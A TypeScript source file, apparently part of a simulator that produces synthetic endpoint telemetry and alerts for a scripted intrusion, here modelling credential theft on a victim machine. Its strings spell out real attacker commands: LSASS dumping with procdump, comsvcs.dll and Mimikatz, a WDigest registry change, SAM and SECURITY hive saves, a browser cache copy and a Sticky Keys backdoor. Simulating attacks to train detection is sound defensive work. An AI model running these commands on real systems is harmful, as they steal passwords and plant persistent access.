// How story two comes by credentials: memory of LSASS, registry hives, and the like.

import { Machine } from '../../machines/machine.js';
import { profileOf } from '../../machines/paths.js';
import type { Process } from '../../machines/process.js';
import { type Moment, minute, second } from '../../timeline.js';
import type { World } from '../../world.js';
import { encodeCommand } from '../story.js';
import { dumper, victimOf } from './cast.js';

export function stealCredentials(world: World, at: Moment, implant: Process): void {
  const { device, person } = victimOf(world);
  const machine = world.machine(device);
  const lsass = Machine.targetColumns(machine.service('lsass.exe'));
  const shell = machine.start(at, { parent: implant, program: 'cmd.exe', commandLine: 'cmd.exe' });
  machine.start(at + 5 * second, { parent: shell, program: 'whoami.exe', commandLine: 'whoami /priv' });
  machine.start(at + 9 * second, {
    parent: shell,
    program: 'reg.exe',
    commandLine:
      'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f',
  });
  machine.registry(at + 9 * second, shell, {
    key: 'HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest',
    name: 'UseLogonCredential',
    type: 'Dword',
    data: '1',
    previous: '0',
  });
  const procdump = machine.start(at + minute, {
    parent: shell,
    program: 'procdump64.exe',
    commandLine: 'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp',
  });
  machine.event(at + minute + second, 'OpenProcessApiCall', procdump, lsass, { DesiredAccess: 2_097_151 });
  machine.event(at + minute + 2 * second, 'ReadProcessMemoryApiCall', procdump, lsass, {
    TotalBytesCopied: 58_720_256,
  });
  machine.load(at + minute + second, procdump, 'dbghelp.dll');
  machine.file(at + minute + 4 * second, procdump, { folder: 'C:\\Windows\\Temp', name: 'ls.dmp', size: 58_941_112 });
  const powershell = machine.start(at + 3 * minute, {
    parent: shell,
    program: 'powershell.exe',
    commandLine: `powershell.exe -ep bypass -EncodedCommand ${encodeCommand('rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).id C:\\Windows\\Temp\\c.bin full')}`,
  });
  const dump = machine.start(at + 3 * minute + 2 * second, {
    parent: powershell,
    program: 'rundll32.exe',
    commandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${machine.service('lsass.exe').id} C:\\Windows\\Temp\\c.bin full`,
  });
  machine.load(at + 3 * minute + 2 * second, dump, 'comsvcs.dll');
  machine.event(at + 3 * minute + 3 * second, 'OpenProcessApiCall', dump, lsass, { DesiredAccess: 2_097_151 });
  machine.event(at + 3 * minute + 3 * second, 'AsrLsassCredentialTheftAudited', dump, lsass, {
    IsAudit: true,
    RuleId: '9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2',
  });
  machine.file(at + 3 * minute + 5 * second, dump, { folder: 'C:\\Windows\\Temp', name: 'c.bin', size: 58_941_340 });
  machine.file(at + 6 * minute, implant, {
    folder: dumper.folder,
    name: dumper.fileName,
    content: dumper,
    size: dumper.size,
  });
  const mimikatz = machine.start(at + 7 * minute, {
    parent: shell,
    program: dumper,
    commandLine: 'mk64.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
  });
  for (const library of ['samlib.dll', 'vaultcli.dll', 'cryptdll.dll'])
    machine.load(at + 7 * minute + second, mimikatz, library);
  machine.event(at + 7 * minute + 2 * second, 'OpenProcessApiCall', mimikatz, lsass, { DesiredAccess: 5136 });
  machine.event(
    at + 8 * minute,
    'AntivirusDetection',
    machine.service('MsMpEng.exe'),
    { ...Machine.fileColumns(dumper, person.account), FileOriginUrl: '' },
    {
      ThreatName: 'HackTool:Win32/Mimikatz.D',
      WasRemediated: false,
      Action: 'Quarantine',
      ReportSource: 'Windows Defender',
    },
  );
  for (const hive of ['sam', 'security', 'system'] as const) {
    const saver = machine.start(at + 10 * minute, {
      parent: shell,
      program: 'reg.exe',
      commandLine: `reg save hklm\\${hive} C:\\Windows\\Temp\\${hive}.sv`,
    });
    machine.file(at + 10 * minute + second, saver, { folder: 'C:\\Windows\\Temp', name: `${hive}.sv`, size: 65_536 });
  }
  machine.start(at + 11 * minute, {
    parent: shell,
    program: 'esentutl.exe',
    commandLine: `esentutl.exe /r V01 /l"${profileOf(person.account)}\\AppData\\Local\\Microsoft\\Windows\\WebCache" /s"${profileOf(person.account)}\\AppData\\Local\\Microsoft\\Windows\\WebCache" /d"C:\\Windows\\Temp"`,
  });
  machine.registry(at + 12 * minute, shell, {
    key: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe',
    name: 'Debugger',
    data: 'C:\\Windows\\System32\\cmd.exe',
  });
  const raise = (delay: Moment, title: string, severity: 'Medium' | 'High', technique: string, process: Process) =>
    world.alerts.raise(at + delay, {
      title,
      category: 'CredentialAccess',
      severity,
      techniques: [technique],
      device,
      account: person.account,
      process,
    });
  raise(2 * minute, 'Suspicious access to LSASS service', 'High', 'LSASS Memory (T1003.001)', procdump);
  raise(9 * minute, "'Mimikatz' hacktool was detected", 'High', 'OS Credential Dumping (T1003)', mimikatz);
  raise(13 * minute, 'Sticky Keys binary hijack detected', 'Medium', 'Accessibility Features (T1546.008)', shell);
}
